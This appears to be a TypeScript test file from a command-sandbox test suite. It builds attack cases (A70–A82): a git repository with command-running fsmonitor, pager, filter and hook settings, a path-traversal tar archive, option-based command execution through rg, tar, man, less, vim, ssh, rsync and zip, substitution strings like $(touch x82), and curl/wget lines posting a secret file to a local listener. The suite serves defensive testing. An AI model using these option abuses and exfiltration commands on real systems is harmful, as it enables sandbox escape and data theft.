import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { expect } from "vitest";
import { type Attack, cmds } from "../helpers/attack.js";
import type { Fixture } from "../helpers/fixture.js";

// Catalogue §4 (A70–A82): the named program is granted, so per spec §12 the program may
// run and every effect beyond the grant must be stopped by the kernel boundary. Markers
// sit inside $A (`$A/PWNED*`), where a helper that ran could have written them.

const git = (cwd: string, ...args: string[]) =>
  execFileSync("git", args, {
    cwd,
    stdio: ["ignore", "pipe", "pipe"],
    env: { PATH: "/usr/bin:/bin", HOME: "/nonexistent-home", GIT_CONFIG_NOSYSTEM: "1" },
  });

/** A repository whose configuration runs helpers on read-only verbs (A72). */
export function hostileRepository(A: string): string {
  const repo = join(A, "repo");
  mkdirSync(repo);
  git(repo, "init", "-q");
  git(repo, "config", "core.fsmonitor", `touch ${A}/PWNED-fsmonitor`);
  git(repo, "config", "core.pager", `touch ${A}/PWNED-pager`);
  git(repo, "config", "filter.x.clean", `touch ${A}/PWNED-filter`);
  writeFileSync(join(repo, ".gitattributes"), "* filter=x\n");
  writeFileSync(join(repo, "f.txt"), "content\n");
  writeFileSync(join(repo, ".git/hooks/pre-commit"), `#!/bin/sh\ntouch ${A}/PWNED-hook\n`);
  chmodSync(join(repo, ".git/hooks/pre-commit"), 0o755);
  return repo;
}

const evilScript = (f: Fixture, name: string) => {
  writeFileSync(join(f.A, name), `#!/bin/sh\ntouch ${f.A}/PWNED-${name}\n`);
  chmodSync(join(f.A, name), 0o755);
};
const listeners = new WeakMap<Fixture, { server: Server; connections: number }>();
const portOf = (f: Fixture) => {
  const address = listeners.get(f)?.server.address();
  return typeof address === "object" && address ? address.port : 0;
};

/** Arguments that a quoting bug would split, expand or run (A82). */
const TRICKY = [
  "`touch x82`",
  "$(touch x82)",
  "a\\b",
  "'q'",
  '"d"',
  "x\ny",
  "!",
  "~",
  "-n",
  "C:`x`",
  "{a,b}",
  "*",
];
const quote = (argument: string) => `'${argument.replaceAll("'", `'\\''`)}'`;

export const OPTION_ATTACKS: readonly Attack[] = [
  {
    id: "A70",
    title: "xargs passing work to another command",
    steps: () => [
      { cmd: "ls | xargs rm" },
      ...[
        "echo $A/victim | xargs rm",
        "echo touch $A/PWNED70 | xargs -I% sh -c %",
        "echo $O/secret.txt | xargs cat",
      ].map((cmd) => ({ cmd, exec: ["xargs"] })),
    ],
  },
  {
    id: "A72",
    title: "repository configuration runs helpers on read-only verbs",
    exec: ["git"],
    setup: (f) => void hostileRepository(f.A),
    steps: () =>
      ["git status", "git log", "git diff", "git add .", "git -p log"].map((cmd) => ({
        cmd,
        cwd: "$A/repo",
      })),
  },
  {
    id: "A74",
    title: "preprocessors and config files for ripgrep (rg --pre, RIPGREP_CONFIG_PATH)",
    exec: ["rg", "env"],
    setup: (f) => {
      evilScript(f, "evil.sh");
      writeFileSync(join(f.A, "rgrc"), "--pre=./evil.sh\n");
    },
    hostEnv: (f) => ({ RIPGREP_CONFIG_PATH: join(f.A, "rgrc") }),
    steps: () =>
      cmds(
        "rg --pre=./evil.sh x .",
        "rg --pre ./evil.sh x .",
        "rg --hostname-bin=./evil.sh x",
        "RIPGREP_CONFIG_PATH=$A/rgrc rg x .",
        "env",
      ),
    check: (outcomes) => {
      // the host's RIPGREP_CONFIG_PATH never reaches a child
      expect(String(outcomes[4]?.response.stdout ?? "")).not.toContain("RIPGREP_CONFIG_PATH");
    },
  },
  {
    id: "A76",
    title: "tar: exec options and hostile archive members",
    exec: ["tar"],
    setup: (f) => {
      // members ../outside/x, /abs/y, a link l -> $O, then l/z (CVE-2007-4559 class)
      execFileSync("/usr/bin/python3", [
        "-c",
        `import io,tarfile
t=tarfile.open(${JSON.stringify(join(f.A, "evil.tar"))},"w")
def add(n,d=b"PWNED"):
  i=tarfile.TarInfo(n);i.size=len(d);t.addfile(i,io.BytesIO(d))
add("../outside/x");add(${JSON.stringify(`${f.WS}/abs-y`)})
l=tarfile.TarInfo("l");l.type=tarfile.SYMTYPE;l.linkname=${JSON.stringify(f.O)};t.addfile(l)
add("l/z");t.close()`,
      ]);
    },
    steps: () =>
      cmds(
        "tar cf o.tar --checkpoint=1 --checkpoint-action=exec='touch $A/PWNED76' ok.txt",
        "tar xf evil.tar --to-command=sh",
        "tar -I 'touch $A/PWNED76b' -cf o2.tar ok.txt",
        "tar xf evil.tar",
        "tar xPf evil.tar",
      ),
  },
  {
    id: "A78",
    title: "pagers and editors (man -P, less +!, vim -c :!, LESSOPEN)",
    steps: () => [
      ...cmds(
        "man -P 'touch $A/PWNED78' ls",
        "man -Psh ls",
        "less '+!touch $A/PWNED78' ok.txt",
        "less --cmd='!touch $A/PWNED78' ok.txt",
        "vim -c ':!touch $A/PWNED78' -c ':q' ok.txt",
        "LESSOPEN='|touch $A/PWNED78 %s' less ok.txt",
      ),
      // granted less: stdin/stdout are not a TTY, LESSOPEN is stripped
      {
        cmd: "less '+!touch $A/PWNED78' ok.txt",
        exec: ["less"],
        env: { LESSOPEN: "|touch $A/PWNED78 %s" },
      },
    ],
  },
  {
    id: "A80",
    title: "network and file-writing options of common utilities (no net grant)",
    exec: ["curl", "wget", "ssh", "rsync", "zip"],
    setup: async (f) => {
      writeFileSync(join(f.A, "cfg"), "output = ../outside/x\nurl = file:///etc/hostname\n");
      const state = {
        server: createServer(() => {
          state.connections += 1;
        }),
        connections: 0,
      };
      await new Promise<void>((resolve) => state.server.listen(0, "127.0.0.1", resolve));
      listeners.set(f, state);
    },
    teardown: (f) => {
      listeners.get(f)?.server.close();
    },
    steps: (f) =>
      cmds(
        `curl -s -o $O/x http://127.0.0.1:${portOf(f)}/`,
        "curl -s file://$O/secret.txt",
        "curl -s -K $A/cfg",
        `curl -s -F f=@$O/secret.txt http://127.0.0.1:${portOf(f)}/`,
        `wget --post-file=$O/secret.txt http://127.0.0.1:${portOf(f)}/`,
        "ssh -o ProxyCommand='touch $A/PWNED80' h",
        `rsync -e 'sh -c "touch $A/PWNED80"' ok.txt b:`,
        "zip -T -TT 'touch $A/PWNED80' z.zip ok.txt",
      ),
    check: (_outcomes, f) => expect(listeners.get(f)?.connections).toBe(0),
  },
  {
    id: "A82",
    title: "arguments quoted into a script come back exactly as bash reads them",
    exec: ["printf"],
    steps: () => [{ cmd: `printf '%s\\0' ${TRICKY.map(quote).join(" ")}` }],
    check: (outcomes) => {
      expect(String(outcomes[0]?.response.stdout).split("\0").slice(0, -1)).toEqual(TRICKY);
    },
  },
  {
    id: "A82",
    title: "a non-ASCII argument comes back exactly as it went in",
    exec: ["printf"],
    steps: () => [{ cmd: "printf '%s\\0' 'é' 'aé'; echo é" }],
    check: (outcomes) => expect(outcomes[0]?.response.stdout).toBe("é\0aé\0é\n"),
  },
];
